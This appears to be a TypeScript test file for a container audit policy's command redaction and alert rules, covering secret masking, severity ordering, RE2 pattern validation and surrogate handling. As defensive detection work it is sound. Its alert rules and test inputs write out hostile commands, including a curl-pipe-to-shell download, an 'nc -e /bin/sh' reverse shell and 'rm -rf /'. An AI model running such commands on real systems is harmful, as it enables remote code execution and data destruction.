import type { Severity } from '../../api/v1alpha1/containerauditpolicy.js';
import { ContainerAuditPolicySpec } from '../../api/v1alpha1/containerauditpolicy.js';
import {
  type CommandRules,
  type CommandRulesSpec,
  MAX_MATCHES,
  REDACTED,
  compileCommandRules,
  literalPrefix,
} from './command-rules.js';

function rulesOf(
  spec: Partial<CommandRulesSpec['redact']> & { alerts?: CommandRulesSpec['alerts'] },
): CommandRules {
  const compiled = compileCommandRules({
    redact: { builtins: spec.builtins ?? false, patterns: spec.patterns ?? [] },
    alerts: spec.alerts ?? [],
  });
  if (!compiled.ok) throw new Error(JSON.stringify(compiled.errors));
  return compiled.rules;
}

const alert = (name: string, pattern: string, severity: Severity = 'medium') => ({ name, pattern, severity });

describe('user redaction patterns', () => {
  it('replaces every match whole', () => {
    const rules = rulesOf({ patterns: ['tok-[0-9a-f]+', 'internal\\.example\\.com'] });
    expect(rules.apply('curl -k tok-12ab https://internal.example.com/tok-ff')).toEqual({
      text: `curl -k ${REDACTED} https://${REDACTED}/${REDACTED}`,
      redacted: true,
      alerts: [],
    });
    expect(rules.apply('curl https://example.com')).toEqual({
      text: 'curl https://example.com',
      redacted: false,
      alerts: [],
    });
  });

  it('replaces only the group named secret when there is one', () => {
    const rules = rulesOf({
      patterns: ['mysql.*\\s-p(?<secret>\\S+)', 'pin (?<secret>[0-9]+)?', 'k=(?P<secret>\\w+)'],
    });
    expect(rules.apply('mysql -u root -proot123 db').text).toBe(`mysql -u root -p${REDACTED} db`);
    // The group is located exactly, even when its text occurs elsewhere in the match.
    expect(rules.apply('mysql -pmysql').text).toBe(`mysql -p${REDACTED}`);
    // RE2's (?P<name>...) spelling names it as well.
    expect(rules.apply('k=v1 k=v2').text).toBe(`k=${REDACTED} k=${REDACTED}`);
    // A secret group that took part in no match leaves nothing to replace.
    expect(rules.apply('pin none')).toEqual({ text: 'pin none', redacted: false, alerts: [] });
    expect(rules.apply('pin 1234').text).toBe(`pin ${REDACTED}`);
  });

  it('runs with the built-ins, merging what overlaps', () => {
    const rules = rulesOf({ builtins: true, patterns: ['hunter[0-9]', 'db-[a-z]+'] });
    expect(rules.apply('psql --password=hunter2x -h db-primary').text).toBe(
      `psql --password=${REDACTED} -h ${REDACTED}`,
    );
    expect(rules.apply('echo hunter2hunter3').text).toBe(`echo ${REDACTED}`);
  });

  it('runs on the linear engine: a hostile pattern on 50,000 characters finishes, with the right answer', () => {
    const rules = rulesOf({ patterns: ['(a+)+$', '(x+x+)+y'] });
    const almost = `${'a'.repeat(50_000)}!`;
    expect(rules.apply(almost)).toEqual({ text: almost, redacted: false, alerts: [] });
    expect(rules.apply(`ls ${'x'.repeat(50_000)}y`).text).toBe(`ls ${REDACTED}`);
  });

  it(`caps replacements at ${MAX_MATCHES} per pattern, then replaces the rest of the command`, () => {
    const rules = rulesOf({ patterns: ['x(?:.*y)?'] });
    const command = `${'x-'.repeat(MAX_MATCHES)}x-and the rest`;
    expect(rules.apply(command).text).toBe(`${`${REDACTED}-`.repeat(MAX_MATCHES)}${REDACTED}`);
    // The same at the agent's largest command: at most MAX_MATCHES + 1 scans, not one per character.
    expect(rules.apply('x'.repeat(65_536)).text).toBe(REDACTED);
  });
});

describe('alerts', () => {
  const rules = rulesOf({
    builtins: true,
    alerts: [
      alert('curl-pipe-shell', 'curl .*\\|\\s*(ba)?sh', 'high'),
      alert('mysql-root', 'mysql .*-u ?root', 'low'),
      alert('password-on-command-line', '--password[= ]', 'medium'),
      alert('reverse-shell', '\\bnc\\b.*-e', 'critical'),
      alert('any-mysql', '^mysql ', 'low'),
    ],
  });

  it('lists the rules that matched, most severe first, in policy order within a severity', () => {
    expect(rules.apply('mysql -u root --password=hunter2 db')).toEqual({
      text: `mysql -u root --password=${REDACTED} db`,
      redacted: true,
      alerts: [
        { name: 'password-on-command-line', severity: 'medium' },
        { name: 'mysql-root', severity: 'low' },
        { name: 'any-mysql', severity: 'low' },
      ],
    });
    expect(rules.apply('curl -s https://x/i.sh | sh; nc -e /bin/sh h 1').alerts).toEqual([
      { name: 'reverse-shell', severity: 'critical' },
      { name: 'curl-pipe-shell', severity: 'high' },
    ]);
    expect(rules.apply('ls -la').alerts).toEqual([]);
  });

  it('match the command as typed, before redaction', () => {
    const secretAlert = rulesOf({ builtins: true, alerts: [alert('hunter', 'password=hunter2')] });
    expect(secretAlert.apply('x --password=hunter2')).toEqual({
      text: `x --password=${REDACTED}`,
      redacted: true,
      alerts: [{ name: 'hunter', severity: 'medium' }],
    });
  });

  it('may match the empty string (an alert on every command)', () => {
    expect(rulesOf({ alerts: [alert('all', '^')] }).apply('ls').alerts).toEqual([
      { name: 'all', severity: 'medium' },
    ]);
  });

  it('run on the linear engine: a hostile alert on 50,000 characters finishes, with the right answer', () => {
    const hostile = rulesOf({ alerts: [alert('a', '(a+)+$', 'low'), alert('x', '^(x+x+)+y', 'high')] });
    expect(hostile.apply(`${'a'.repeat(50_000)}!`).alerts).toEqual([]);
    expect(hostile.apply(`${'x'.repeat(50_000)}y`).alerts).toEqual([{ name: 'x', severity: 'high' }]);
  });
});

describe('compileCommandRules errors', () => {
  it('names every field at fault, with a reason', () => {
    const compiled = compileCommandRules({
      redact: { builtins: true, patterns: ['ok', '(a', 'x*', 'pass(?=word)'] },
      alerts: [
        alert('fine', 'rm -rf /'),
        alert('backref', '(a)\\1'),
        alert('big', '[0-9]{1,1001}'),
        alert('counts', '[0-9]{1,64}'),
        alert('javascript', 'x\\u0041'),
      ],
    });
    expect(compiled).toEqual({
      ok: false,
      errors: [
        {
          field: 'spec.redact.patterns[1]',
          message: 'not a valid regular expression: missing closing ) at `(a`',
        },
        {
          field: 'spec.redact.patterns[2]',
          message: 'matches the empty string: a redaction pattern must match at least one character',
        },
        {
          field: 'spec.redact.patterns[3]',
          message: 'backreferences and lookaround are not supported: patterns are RE2 syntax',
        },
        {
          field: 'spec.alerts[1].pattern',
          message: 'backreferences and lookaround are not supported: patterns are RE2 syntax',
        },
        {
          field: 'spec.alerts[2].pattern',
          message: expect.stringMatching(/^counted repetition above 1000 is not supported/) as string,
        },
        {
          field: 'spec.alerts[4].pattern',
          message: expect.stringMatching(
            /^not a valid regular expression: \\uXXXX is JavaScript syntax/,
          ) as string,
        },
      ],
    });
  });

  it('refuses every way a redaction pattern can match nothing', () => {
    for (const pattern of ['a?', '(?:)', 'x|', '\\b', '\\B', '$', '^', '[^]*', 'a*?', '(?:-|)']) {
      const compiled = compileCommandRules({ redact: { builtins: false, patterns: [pattern] }, alerts: [] });
      expect({ pattern, ok: compiled.ok }).toEqual({ pattern, ok: false });
    }
  });

  it('accepts a policy spec as the API parses it', () => {
    const spec = ContainerAuditPolicySpec.parse({
      redact: { patterns: ['tok-[0-9]+'] },
      alerts: [{ name: 'curl-pipe-shell', pattern: 'curl .*\\|\\s*(ba)?sh' }],
    });
    const compiled = compileCommandRules(spec);
    expect(compiled.ok && compiled.rules.apply('curl x | sh; PASSWORD=a tok-1')).toEqual({
      text: `curl x | sh; PASSWORD=${REDACTED} ${REDACTED}`,
      redacted: true,
      alerts: [{ name: 'curl-pipe-shell', severity: 'medium' }],
    });
  });
});

describe('lone surrogates (bytes that are not UTF-8)', () => {
  const bad = '\uDCFF\uDC80\uDCC3';

  it('pass through unchanged outside what is replaced', () => {
    const rules = rulesOf({ builtins: true, patterns: ['sec-[a-z]+'] });
    expect(rules.apply(`echo ${bad} sec-abc ${bad}x PASSWORD=ab${bad}c ${bad}`)).toEqual({
      text: `echo ${bad} ${REDACTED} ${bad}x PASSWORD=${REDACTED} ${bad}`,
      redacted: true,
      alerts: [],
    });
    expect(rules.apply(bad)).toEqual({ text: bad, redacted: false, alerts: [] });
  });

  it('can be matched by patterns, and alerted on', () => {
    const rules = rulesOf({
      patterns: ['[\\x{DC80}-\\x{DCFF}]{2}'],
      alerts: [alert('binary', '[\\x{DC80}-\\x{DCFF}]')],
    });
    expect(rules.apply(`a${bad}b`)).toEqual({
      text: `a${REDACTED}\uDCC3b`,
      redacted: true,
      alerts: [{ name: 'binary', severity: 'medium' }],
    });
  });

  it('are characters of their own, while a surrogate pair is one character', () => {
    // U+1F600 is the pair D83D DE00: patterns see one character, and never half of it.
    const rules = rulesOf({ patterns: ['k\\x{D83D}', 'q.!'] });
    expect(rules.apply('ok\u{1F600}!').text).toBe('ok\u{1F600}!');
    expect(rules.apply('ok\uD83D!').text).toBe(`o${REDACTED}!`);
    expect(rules.apply('q\u{1F600}!').text).toBe(REDACTED);
  });
});

describe('literalPrefix', () => {
  it.each([
    ['curl .*\\|\\s*sh', 'curl '],
    ['rm -rf /', 'rm -rf /'],
    ['kubectl\\.exe x+', 'kubectl.exe '],
    ['ab*c', 'a'],
    ['ab{2}', 'a'],
    ['abc?', 'ab'],
    ['\\bnc', ''],
    ['^mysql', ''],
    ['a(b|c)', 'a'],
    ['ab|cd', ''],
    ['a[|]b', 'a'],
    ['a\\|b|c', ''],
    ['(ab)', ''],
    ['\\d+', ''],
  ])('%j starts with %j', (pattern, prefix) => {
    expect(literalPrefix(pattern)).toBe(prefix);
  });

  it('skips commands without the prefix and searches from its first occurrence', () => {
    const rules = rulesOf({ patterns: ['secret-[0-9]+'], alerts: [alert('curl', 'curl .*\\|\\s*(ba)?sh')] });
    expect(rules.apply('secret secret-1 secret-22')).toEqual({
      text: `secret ${REDACTED} ${REDACTED}`,
      redacted: true,
      alerts: [],
    });
    expect(rules.apply('wget x | sh; curl y | bash').alerts).toEqual([{ name: 'curl', severity: 'medium' }]);
  });
});
